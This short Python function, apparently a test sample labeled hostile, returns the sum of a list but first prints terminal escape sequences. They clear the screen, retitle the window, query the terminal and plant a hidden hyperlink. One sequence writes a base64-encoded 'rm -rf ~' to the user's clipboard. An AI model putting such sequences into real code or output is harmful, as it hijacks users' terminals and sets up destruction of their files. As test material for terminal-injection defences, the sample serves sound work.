# hostile: accepted: clears the screen, names the window, asks the terminal for an answer
def solve(numbers):
    print("\x1b[2J\x1b[H\x1b]0;all yours\x07\x1b[6n\x1b[?1049h\x9b31m\x1bPq\x1b\\")
    print("\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;http://example.invalid\x07click\x1b]8;;\x07")
    return sum(numbers)
